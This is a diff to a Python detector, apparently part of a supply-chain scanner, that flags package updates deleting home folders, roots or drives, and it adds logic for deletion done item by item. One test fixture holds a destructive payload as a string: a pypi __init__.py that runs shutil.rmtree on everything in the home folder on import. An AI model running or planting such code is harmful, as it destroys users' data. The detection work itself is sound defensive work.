@@ -1,8 +1,8 @@
 """This update deletes what is not its own.
 
 ## What it detects
-Deletion of a home folder, a root, a drive or everything in the working folder, new to the line; files beside whatever
-is found there, in a file that deletes as well, as what is held to ransom is.
+Deletion of a home folder, a root, a drive or everything in the working folder, at once or one after the other, new to
+the line; files beside whatever is found there, in a file that deletes as well, as what is held to ransom is.
 
 ## Why it matters
 Releases have been published to destroy, in protest or to cover a theft (node-ipc in 2022, dead-man's switches in
@@ -88,6 +88,26 @@ EXAMPLES = (
         at="index.js:4",
     ),
     Example(
+        title="whatever lies in the home folder is deleted, one by one",
+        ecosystem="pypi",
+        before={"pad/__init__.py": "WIDTH = 2\n"},
+        after={
+            "pad/__init__.py": "import pathlib, shutil\nfor child in pathlib.Path.home().iterdir():\n"
+            "    shutil.rmtree(child)\nWIDTH = 2\n"
+        },
+        expect="autorun",
+        at="pad/__init__.py:3",
+    ),
+    Example(
+        title="a package deletes what it has left behind in the home folder",
+        ecosystem="pypi",
+        before={"pad/__init__.py": "WIDTH = 2\n"},
+        after={
+            "pad/__init__.py": "import pathlib\nfor old in pathlib.Path.home().glob('.pad-*.lock'):\n"
+            "    old.unlink()\nWIDTH = 2\n"
+        },
+    ),
+    Example(
         title="a build tool empties its output folder",
         before=_BEFORE,
         after={
@@ -117,8 +137,10 @@ def detect(update: Update) -> Iterator[Finding]:
     tally = Tally(CARD)
     for pair in update.pairs:
         for placed in pair.gained(Kind.FS_DELETE):
-            if is_broad(placed.fact.value) and (pair.before is not None or runs_by_itself(placed)):
-                tally.add("autorun" if runs_by_itself(placed) else "call", pair, placed)
+            alone = runs_by_itself(placed)
+            broad = is_broad(placed.fact.value) or (alone and _one_by_one(placed.fact.value))
+            if broad and (pair.before is not None or alone):
+                tally.add("autorun" if alone else "call", pair, placed)
         deletes = {placed.path for placed in pair.after.placed if _deletes(placed)}
         for placed in pair.gained(Kind.FS_WRITE):
             if placed.path in deletes and runs_by_itself(placed) and _whatever_lies_there(placed.fact.value):
@@ -135,6 +157,12 @@ def _whatever_lies_there(path: str | None) -> bool:
     text = (path or "").strip().replace("\\", "/").replace("{}", "*").lower()
     folder, star, _ = text.partition("/*")
     return bool(star) and is_broad(folder or "/")
+
+
+def _one_by_one(path: str | None) -> bool:
+    """Whether a path is a home folder or a drive and the name of something in it that nobody knows: each in turn."""
+    folder, star, rest = (path or "").replace("\\", "/").replace("{}", "*").partition("/*")
+    return bool(folder and star) and not rest and is_broad(folder)
 
 
 def is_broad(path: str | None) -> bool:
